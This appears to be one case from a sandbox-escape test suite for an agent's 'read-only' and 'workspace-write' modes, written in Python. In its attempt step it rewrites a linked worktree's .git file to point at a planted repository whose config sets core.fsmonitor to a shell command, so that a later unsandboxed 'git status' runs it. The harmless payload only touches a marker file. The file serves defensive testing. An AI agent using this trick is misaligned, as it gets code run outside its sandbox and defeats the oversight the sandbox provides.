"""in a linked worktree: rewrite its `.git` file to lead to a repository made inside"""
import os
import subprocess

STOPS = ["read-only", "workspace-write"]


def prepare(bait):
    main = bait.base + "/main"
    os.rename(bait.ws, main)
    bait.git("worktree", "add", "-q", "-b", "side", bait.ws, directory=main)


def attempt(bait):
    subprocess.run(["git", "init", "-q", "--bare", "evil"], check=True, stdout=subprocess.DEVNULL)
    with open("evil/config", "a") as config:
        config.write("[core]\n\tbare = false\n\tworktree = %s\n\tfsmonitor = \"touch %s; false\"\n" % (bait.ws, bait.pwned))
    with open(bait.ws + "/.git", "w") as file:
        file.write("gitdir: %s/evil\n" % bait.ws)
    return "rewritten"


def escaped(bait):
    bait.git("status")
    return bait.executed()
